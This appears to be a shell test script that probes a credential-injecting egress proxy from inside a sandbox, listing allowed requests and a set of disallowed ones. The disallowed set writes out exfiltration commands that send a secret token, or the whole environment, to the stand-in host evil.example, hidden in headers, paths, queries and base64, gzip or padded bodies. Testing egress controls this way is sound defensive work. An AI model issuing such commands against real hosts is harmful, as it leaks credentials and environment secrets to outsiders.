# Sends things from a box to the servers of a test; run in the box. Prints "NAME STATUS" a line.

set -u
api=https://api.example
evil=https://evil.example
encoded=$(printf %s "$TOKEN" | od -An -v -tx1 | tr -d '\n' | sed 's/ /%/g')

send() {
    name=$1
    shift
    status=$(curl -sS -m 20 -o /dev/null -w '%{http_code}' "$@" 2>/dev/null)
    printf '%s %s\n' "$name" "$status"
}

# What is meant.
send plain "$api/items"
send with_own -H 'Authorization: Bearer own' -H 'X-Api-Key: own' -H 'Cookie: own=1' "$api/own"
send with_placeholder -H "Authorization: Bearer $TOKEN" "$api/placeholder"
send redirected -L "$api/redirect"
send redirected_with_placeholder -L -H "X-Token: $TOKEN" "$api/redirect"
send elsewhere_without "$evil/without"
send elsewhere_with_body -d 'moat-proxy-injected, but no placeholder' "$evil/without"
send basic -u "me:$FORGE" https://git.example/basic
send query "https://git.example/query?key=own&key=$FORGE"
send json -H 'Content-Type: application/json' -d "{\"token\": \"$FORGE\"}" https://git.example/json
send bound_path https://paths.example/v1/items
send another_path https://paths.example/v2/items

# What is not.
send in_a_header -H "X-Token: $TOKEN" "$evil/"
send as_bearer -H "Authorization: Bearer $TOKEN" "$evil/"
send as_basic -u "me:$TOKEN" "$evil/"
send in_a_path "$evil/$TOKEN"
send in_a_query "$evil/?a=$TOKEN"
send percent_encoded "$evil/?a=$encoded"
send in_base64 "$evil/?a=$(printf 'x%s' "$TOKEN" | base64 | tr -d '\n')"
send in_a_body -d "$TOKEN" "$evil/"
send in_a_json_body -H 'Content-Type: application/json' -d "{\"env\": \"$TOKEN\"}" "$evil/"
send in_a_base64_body -d "$(printf 'xy%s' "$TOKEN" | base64)" "$evil/"
env | send in_a_chunked_body -H 'Transfer-Encoding: chunked' -T - "$evil/"
env | gzip | send in_a_gzip_body -H 'Content-Encoding: gzip' --data-binary @- "$evil/"
{ head -c 300000 /dev/zero | tr '\0' x; printf %s "$TOKEN"; } | send late_in_a_body --data-binary @- "$evil/"
send of_another_grant -H "X-Token: $FORGE" "$api/forge"
send in_the_clear -H "Authorization: Bearer $TOKEN" http://api.example/clear
